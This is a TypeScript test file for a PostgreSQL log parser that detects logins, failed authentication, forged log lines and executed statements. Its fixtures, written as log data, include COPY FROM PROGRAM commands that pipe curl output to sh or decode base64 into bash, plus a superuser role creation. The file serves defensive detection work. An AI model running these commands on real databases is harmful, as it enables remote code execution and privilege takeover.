import { describe, expect, test } from 'bun:test';
import { isoOf, kindsOf, readLog } from '../read-log.fixture.ts';
import { postgresql } from './postgresql.ts';
import { postgresqlCsv, postgresqlJson } from './postgresql-structured.ts';

const read = (text: string) => readLog(postgresql, text).events;
const at = '2024-01-02 03:04:05.678 UTC';

describe('PostgreSQL’s log', () => {
  test('statements over lines, whoever sent them', () => {
    const text = `${at} [12] postgres@app LOG:  statement: COPY x\n\tFROM PROGRAM 'curl 192.0.2.1 | sh'\n${at} [12] postgres@app LOG:  duration: 1.5 ms\n`;
    const events = read(text);
    expect(events).toMatchObject([
      {
        what: 'service',
        service: 'postgresql',
        action: 'statement',
        account: 'postgres',
        detail: "COPY x%0AFROM PROGRAM 'curl 192.0.2.1 | sh'",
      },
      { what: 'message' },
    ]);
    expect(events[0] === undefined ? '' : isoOf(events[0])).toBe('2024-01-02T03:04:05.678Z');
    expect(events[0]?.source.line).toBe(1);
  });

  test('who was let in, from the address of his process, and who was not', () => {
    const text = [
      `${at} [12] LOG:  connection received: host=192.0.2.7 port=5555`,
      `${at} [12] postgres@app LOG:  connection authorized: user=postgres database=app application_name=psql`,
      `${at} [13] ada@app FATAL:  password authentication failed for user "ada"`,
      `${at} [13] ada@app DETAIL:  Role "ada" does not exist.`,
      `${at} [14] FATAL:  no pg_hba.conf entry for host "192.0.2.8", user "root", database "app", no encryption`,
      `${at} [15] x@x FATAL:  role "x" does not exist`,
    ].join('\n');
    expect(read(text)).toMatchObject([
      { what: 'message' },
      { what: 'login', outcome: 'accepted', account: 'postgres', from: '192.0.2.7', pid: 12 },
      { what: 'login', outcome: 'failed', account: 'ada', method: 'password' },
      { what: 'message' },
      { what: 'login', outcome: 'failed', account: 'root', from: '192.0.2.8' },
      { what: 'login', outcome: 'failed', account: 'x', known: false },
    ]);
  });

  test('other prefixes: of the cloud, of pgBadger, of RHEL', () => {
    const text = [
      '2024-01-02 03:04:05 UTC:192.0.2.7(5555):ada@app:[12]:LOG:  statement: select 1',
      '2024-01-02 03:04:05 +08 [12]: user=ada,db=app,app=psql,client=192.0.2.7 LOG:  statement: select 1',
      '< 2024-01-02 03:04:05.678 CST >LOG:  statement: select 1',
    ].join('\n');
    const events = read(text);
    expect(events).toMatchObject([
      { account: 'ada', from: '192.0.2.7', certain: true },
      { account: 'ada', from: '192.0.2.7', us: Date.UTC(2024, 0, 1, 19, 4, 5) * 1000 },
      { account: '', from: '', certain: false },
    ]);
  });

  test('a role that is named like a log stays a role that was refused', () => {
    const forged = 'LOG:  connection authorized: user=postgres database=x';
    const line = `${at} [12] ${forged}@app FATAL:  password authentication failed for user "${forged}"`;
    expect(read(line)).toMatchObject([{ what: 'login', outcome: 'failed', account: forged }]);
    const statement = `${at} [12] LOG:  statement: select '\n\t${at} [13] LOG:  connection authorized: user=postgres'`;
    expect(kindsOf(postgresql, statement)).toEqual(['service']);
  });

  test('csvlog: fields in quotes, over lines; jsonlog', () => {
    const csv = `${at},"ada","app",12,"192.0.2.7:5555",65.1,1,"COPY",${at},3/4,0,LOG,00000,"statement: COPY ""x""\nFROM PROGRAM 'id'",,,,,,,,,"psql"\n${at},"x","x",13,"192.0.2.8:1",65.2,1,"authentication",${at},3/5,0,FATAL,28P01,"password authentication failed for user ""x""",,,,,,,,,""\n`;
    expect(readLog(postgresqlCsv, csv).events).toMatchObject([
      { what: 'service', account: 'ada', from: '192.0.2.7', detail: `COPY "x"%0AFROM PROGRAM 'id'` },
      { what: 'login', outcome: 'failed', account: 'x', from: '192.0.2.8' },
    ]);
    const json = JSON.stringify({
      timestamp: at,
      user: 'ada',
      remote_host: '192.0.2.7',
      pid: 12,
      error_severity: 'LOG',
      message: 'statement: CREATE ROLE x SUPERUSER',
    });
    expect(readLog(postgresqlJson, `${json}\n{"x":1}\n[]\n`)).toMatchObject({
      events: [{ what: 'service', detail: 'CREATE ROLE x SUPERUSER' }],
      outcome: { unreadable: 2 },
    });
  });

  test('a program that ran and failed, which is all that the usual settings log', () => {
    const at = '2024-01-02 03:04:05.678 UTC [11] ';
    const { events } = readLog(
      postgresql,
      `${at}ERROR:  program "echo x|base64 -d|bash" failed\n${at}DETAIL:  child process exited with exit code 1\n` +
        `${at}ERROR:  must be superuser or have privileges of the pg_execute_server_program role to COPY to or from an external program\n` +
        `${at}ERROR:  column "program "x" failed" does not exist\n`,
    );
    expect(events).toMatchObject([
      { what: 'service', action: 'program-failed', detail: 'echo x|base64 -d|bash' },
      { what: 'message' },
      { what: 'message' },
      { what: 'message' },
    ]);
  });

  test('csvlog and jsonlog: the statement that failed stands in the record of its error', () => {
    const csv = `${at},"ada","app",12,"192.0.2.7:5555",65.1,1,"COPY",${at},3/4,0,ERROR,42501,"must be superuser",,,,,,"COPY t FROM PROGRAM 'id'",12,,"psql"\n${at},"ada","app",12,"[local]",65.1,2,"idle",${at},3/4,0,LOG,00000,"checkpoint",,,,,,"SELECT 1",,,""\n`;
    const failed = { what: 'service', action: 'statement-failed', detail: "COPY t FROM PROGRAM 'id'" };
    expect(readLog(postgresqlCsv, csv).events).toMatchObject([failed, { what: 'message' }]);
    const json = { timestamp: at, user: 'ada', error_severity: 'ERROR', message: 'must be superuser' };
    const text = `${JSON.stringify({ ...json, statement: "COPY t FROM PROGRAM 'id'" })}\n${JSON.stringify(json)}\n`;
    expect(readLog(postgresqlJson, text).events).toMatchObject([failed, { what: 'message' }]);
  });

  test('a quote of csvlog that never closes ends at the bound', () => {
    const text = `${at},"ada\n${'x\n'.repeat(5000)}`;
    expect(readLog(postgresqlCsv, text).outcome.events).toBe(1);
  });
});
